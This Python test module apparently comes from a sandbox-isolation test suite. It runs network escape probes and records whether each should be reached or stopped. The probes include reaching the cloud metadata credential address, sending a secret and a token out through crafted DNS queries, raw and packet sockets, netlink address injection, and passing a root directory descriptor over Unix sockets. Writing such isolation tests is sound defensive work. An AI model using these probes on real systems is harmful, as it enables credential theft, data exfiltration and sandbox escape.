"""Attacks over networks and sockets. Each service that is asked is there, and greets with the canary."""

from __future__ import annotations

import array
import os
import socket
import struct

from tests.security.isolation.attacks import NETWORK, attack, depends, reached, stopped
from tests.security.isolation.toolkit import GREETING_BYTES, Host, first_of, greeted

OPEN = reached("a process has the network of its executor")
OWN = stopped("its own network, with nothing in it")
NEEDS_ROOT = stopped("it needs a capability")


@attack(
    NETWORK,
    process=OPEN,
    sandbox=OWN,
    quick=True,
)
def service_on_loopback(host: Host) -> object:
    """Reach a service on the loopback address of the machine."""
    return greeted(socket.AF_INET, (host.loopback, host.service_port))


@attack(
    NETWORK,
    process=stopped("its socket lies in a folder that is closed"),
    sandbox=stopped("it is not mounted"),
    with_root_alone=True,
)
def database(host: Host) -> object:
    """Reach the embedded database."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(host.database_socket)
        return connection.getpeername()


@attack(NETWORK, process=OPEN, sandbox=OWN)
def credentials_of_the_cloud(host: Host) -> object:
    """Reach the metadata address of clouds, where the credentials of the machine are: 169.254.169.254."""
    return greeted(socket.AF_INET, (host.metadata, host.service_port))


@attack(NETWORK, process=OPEN, sandbox=OWN)
def public_address(host: Host) -> object:
    """Reach a public address."""
    return greeted(socket.AF_INET, (host.public_address, host.service_port))


@attack(NETWORK, process=OPEN, sandbox=OWN)
def public_address_6(host: Host) -> object:
    """Reach a public address of IPv6."""
    return greeted(socket.AF_INET6, (host.public_address_6, host.service_port))


@attack(NETWORK, process=OPEN, sandbox=OWN)
def mapped_address(host: Host) -> object:
    """Reach an address of IPv4 written as one of IPv6, which lists of addresses forget."""
    return greeted(socket.AF_INET6, (f"::ffff:{host.metadata}", host.service_port))


@attack(NETWORK, process=OPEN, sandbox=OWN)
def datagrams(host: Host) -> object:
    """Reach a public address by UDP."""
    return greeted(socket.AF_INET, (host.public_address, host.service_port), socket.SOCK_DGRAM)


@attack(
    NETWORK,
    process=OPEN,
    sandbox=OWN,
    quick=True,
)
def secrets_in_questions(host: Host) -> object:
    """Send a secret out as a name that a resolver is asked for (DNS)."""
    question = struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + b"\x06secret\x04test\0" + struct.pack("!HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(2)
        connection.connect((host.resolver, 53))
        connection.send(question)
        return connection.recv(GREETING_BYTES)


@attack(NETWORK, process=OPEN, sandbox=OWN)
def secrets_in_names(host: Host) -> object:
    """The same by the machine's own way to ask for names (`getaddrinfo`)."""
    return socket.getaddrinfo(f"{host.token}.secret.test", 80, socket.AF_INET)


@attack(
    NETWORK,
    process=reached("it has no owner"),
    sandbox=stopped("its own network, and so its own such names"),
    quick=True,
)
def abstract_socket(host: Host) -> object:
    """Reach a socket of the machine that has a name and no place (an abstract one), as desktops have."""
    return greeted(socket.AF_UNIX, "\0" + host.abstract_socket)


@attack(NETWORK, process=reached("all users may connect to it"), sandbox=stopped("it is not mounted"))
def socket_in_a_folder(host: Host) -> object:
    """Reach a socket of the machine by its path, as those of containers, of the journal, of databases."""
    return greeted(socket.AF_UNIX, host.public_socket)


@attack(NETWORK, process=NEEDS_ROOT, sandbox=NEEDS_ROOT)
def raw_packets(host: Host) -> object:
    """Send packets with headers of its own (a raw socket)."""
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attack(NETWORK, process=NEEDS_ROOT, sandbox=NEEDS_ROOT)
def packets_of_others(host: Host) -> object:
    """Read the packets of all processes (a packet socket)."""
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))


@attack(NETWORK, process=OPEN, sandbox=OWN)
def interfaces_of_the_machine(host: Host) -> object:
    """List the network cards of the machine (netlink)."""
    return [name for _, name in socket.if_nameindex() if name != "lo"]


@attack(NETWORK, process=NEEDS_ROOT, sandbox=NEEDS_ROOT)
def address_of_its_own(host: Host) -> object:
    """Give the machine a further address, or itself a way out (netlink)."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernel:
        kernel.bind((0, 0))
        attribute = struct.pack("HH4s", 8, 2, socket.inet_aton("127.77.0.1"))
        body = struct.pack("BBBBI", socket.AF_INET, 32, 0, 0, 1) + attribute
        kernel.send(struct.pack("IHHII", 16 + len(body), 20, 5 | 0x400, 1, 0) + body)
        answer = kernel.recv(4096)
    (status,) = struct.unpack_from("i", answer, 16)
    if status < 0:
        raise OSError(-status, os.strerror(-status))
    return "added"


@attack(
    NETWORK,
    process=depends("whether the machine is a virtual one that lets its users talk to its host"),
    sandbox=stopped("such sockets are refused"),
    is_shown=False,
)
def host_of_the_machine(host: Host) -> object:
    """Talk to the host of a virtual machine (`AF_VSOCK`), which has no namespaces."""
    return socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)


@attack(NETWORK, process=reached("all users may connect to it"), sandbox=stopped("it finds nobody to send it to"))
def descriptors_for_others(host: Host) -> object:
    """Send an open file to a process outside (`SCM_RIGHTS`), through a socket in a folder or one without a place."""

    def sent(address: str) -> bytes:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(2)
            connection.connect(address)
            rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [os.open("/", os.O_RDONLY)]))]
            connection.sendmsg([b"x"], rights)
            return connection.recv(GREETING_BYTES)

    return first_of(sent, (host.public_socket, "\0" + host.abstract_socket))
